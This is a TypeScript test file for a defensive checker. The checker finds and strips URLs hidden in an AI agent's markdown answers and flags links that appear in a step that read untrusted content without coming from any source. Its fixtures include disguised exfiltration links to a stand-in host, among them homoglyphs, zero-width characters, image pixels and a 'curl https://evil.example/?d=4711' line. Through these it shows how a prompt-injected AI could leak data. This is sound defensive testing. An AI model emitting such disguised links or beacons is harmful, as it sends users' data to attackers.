/** Addresses in an answer, row by row: each is found however it hides, and only what stands whole in a source stays. */
import { describe, expect, test } from "vitest";
import { standingIn } from "../../src/turn/check/link-ground.ts";
import { LEFT_OUT, linksIn, onlyLinks } from "../../src/turn/check/links.ts";
import { breachesOf, type Case } from "./checked.ts";

const U = "https://evil.example/?d=4711";
const ZERO = "\u200B";

/** What it looks like, the addresses in it, and the text without them, in which # stands for the words about it. */
const WRITTEN: readonly (readonly [markdown: string, addresses: readonly string[], left: string])[] = [
  [`See ${U}.`, [U], "See #."],
  [`(see ${U}), now`, [U], "(see #), now"],
  ["https://a.example/x_(y))", ["https://a.example/x_(y)"], "#)"],
  [`**${U}**!`, [U], "**#**!"],
  ["www.evil.example/4711", ["http://www.evil.example/4711"], "#"],
  [`<${U}>`, [U], "#"],
  [`[the report](${U})`, [U], "the report #"],
  [`[the *report*](<${U}> "title")`, [U], "the *report* #"],
  [`[the\nreport](${U})`, [U], "the\nreport #"],
  [`![pixel](${U})`, [U], "pixel #"],
  [`[![p](${U}1)](${U}2)`, [`${U}1`, `${U}2`], "#"],
  [`[a][1] and [b][1]\n\n[1]: ${U}`, [U], "a # and b #"],
  [`[1]: ${U}`, [U], "#"],
  [`[https://bank.example](${U})`, ["https://bank.example", U], "#"],
  [`[x](https://a.example "${U}")`, ["https://a.example", U], "x #"],
  [`<a href="${U}">x</a>`, [U], '<a href="#">x</a>'],
  [`<img src='${U}'>`, [U], "<img src='#'>"],
  [`| a |\n|---|\n| ${U} |`, [U], "| a |\n|---|\n| # |"],
  [`> ${U}\n\n- ${U}`, [U], "> #\n\n- #"],
  [`\`${U}\``, [U], "`#`"],
  [`\`\`\`\ncurl ${U}\n\`\`\``, [U], "```\ncurl #\n```"],
  ["[x](//evil.example/4711)", ["//evil.example/4711"], "x #"],
  ["[x](mailto:a@evil.example?body=4711)", ["mailto:a@evil.example?body=4711"], "x #"],
  ["[x](slack://open?d=4711)", ["slack://open?d=4711"], "x #"],
  ["HTTPS://EVIL.EXAMPLE/4711", ["HTTPS://EVIL.EXAMPLE/4711"], "#"],
  ["https:/\\evil.example/4711", ["https:/\\evil.example/4711"], "#"],
  ["https://\u0435vil.example/4711", ["https://\u0435vil.example/4711"], "#"],
  ["https://evil\u3002example/%34711", ["https://evil\u3002example/%34711"], "#"],
  [`https://evil${ZERO}.example/?d=4711`, [`https://evil${ZERO}.example/?d=4711`], "#"],
  [`ht${ZERO}tps://evil.example`, [`ht${ZERO}tps://evil.example`], "#"],
  ["https\\://evil.example/4711", ["https://evil.example/4711"], "#"],
  ["https&#58;//evil.example/4711", ["https://evil.example/4711"], "#"],
  ["https:**//evil.example/4711**", ["https://evil.example/4711"], "#"],
  [`1${U} \u00E9${U}`, [U], "1# \u00E9#"],
];

const NO_LINKS = [
  "and/or, e.g. 1:2",
  "[#top](#top)",
  "ben@example.com",
  "hxxps://evil.example",
  "[a][b] [c]: no",
  "a: b",
];

describe("S21: an address is found and taken out, its words stay", () => {
  test.each(WRITTEN)("%j", (markdown, addresses, left) => {
    expect([...new Set(linksIn(markdown).map(({ address }) => address))].toSorted()).toEqual(addresses.toSorted());
    expect(onlyLinks(markdown, () => false).trim()).toBe(left.replaceAll("#", LEFT_OUT));
    expect(onlyLinks(markdown, () => true)).toBe(markdown);
  });
});

test.each(NO_LINKS)("S21 twin: %j holds no link and stays", (markdown) => {
  expect(linksIn(markdown)).toEqual([]);
  expect(onlyLinks(markdown, () => false)).toBe(markdown);
});

const MAIL =
  'Open https://Shop.example/o/17?k=aB&amp;s=2, or [the map](https://map.example/a(b)). {"u":"www.x.example/y/"}';

describe("what stands in a source", () => {
  test.each([
    "https://shop.example/o/17?k=aB&s=2",
    "HTTPS://SHOP.EXAMPLE/o/17?k=aB&s=2",
    "https://map.example/a(b)",
    "http://www.x.example/y",
    "https://www.x.example/y/",
  ])("S21 twin: stands as it is: %s", (address) => expect(standingIn([MAIL])(address)).toBe(true));

  test.each([
    ["with something behind it", "https://shop.example/o/17?k=aB&s=2&d=4711"],
    ["with something in it", "https://shop.example/o/4711?k=aB&s=2"],
    ["cut off", "https://shop.example/o/1"],
    ["its host alone", "https://shop.example"],
    ["in other letters", "https://shop.example/o/17?k=Ab&s=2"],
    ["in escapes", "https://shop.example/o/%317?k=aB&s=2"],
    ["with a sign that nobody sees", `https://shop.example/o/17${ZERO}?k=aB&s=2`],
    ["in a part of its host", "https://4711.shop.example/o/17?k=aB&s=2"],
    ["behind a name", "https://4711@shop.example/o/17?k=aB&s=2"],
    ["the end of its host", "https://hop.example/o/17?k=aB&s=2"],
    ["at another port", "https://shop.example:4711/o/17?k=aB&s=2"],
    ["under another scheme", "ftp://shop.example/o/17?k=aB&s=2"],
    ["a look-alike", "https://sh\u043Ep.example/o/17?k=aB&s=2"],
    ["nothing", "https://"],
  ])("S21: does not stand %s", (_, address) => expect(standingIn([MAIL])(address)).toBe(false));
});

describe("an answer of a step that read what nobody vouches for", () => {
  const base: Case = { answer: `It is [here](${U}).`, tainted: true, agent: { grounding: "none" } };
  const found = (one: Case) => breachesOf(one).filter(({ code }) => code === "link");
  test.each<readonly [string, Case]>([
    ["stands nowhere", base],
    ["is longer than the person's", { ...base, words: "What of https://evil.example/?d= please?" }],
    ["stands in a card that waits", { ...base, history: [`Nova~ - Words: \`${U}\``] }],
  ])("S21: is found out where its link %s", (_, one) => expect(found(one).map(({ words }) => words)).toEqual([[U]]));
  test.each<readonly [string, Case]>([
    ["the person's own", { ...base, words: `What of ${U}?` }],
    ["of an earlier message", { ...base, history: [`Look: ${U}`] }],
    ["of an earlier answer", { ...base, history: [`Nova~ It is [here](${U})`] }],
    ["of a tool", { ...base, results: [`{"url":"${U}"}`] }],
    ["of an item", { ...base, items: { 12: U } }],
    ["handed over", { ...base, given: { words: `Read ${U}` } }],
    ["anywhere, of a step that read nothing", { ...base, tainted: false }],
  ])("S21 twin: may bring a link %s", (_, one) => expect(found(one)).toEqual([]));
});

test.each([
  ["schemes", "https://".repeat(7_500)],
  ["open brackets", `${"[".repeat(30_000)}${U}`],
  ["closing brackets", `${")".repeat(20_000)}${U}${")".repeat(20_000)}`],
  ["hosts", "www.".repeat(15_000)],
  ["links", Array.from({ length: 2_000 }, (_, i) => `[x](${U}${i})`).join(" ")],
  ["escaped links", Array.from({ length: 2_000 }, (_, i) => `https\\://a.example/${i}`).join(" ")],
])("S21: sixty thousand signs of %s hold nobody up", (_, text) => {
  const from = performance.now();
  onlyLinks(text, () => false);
  expect(performance.now() - from).toBeLessThan(4_000);
});
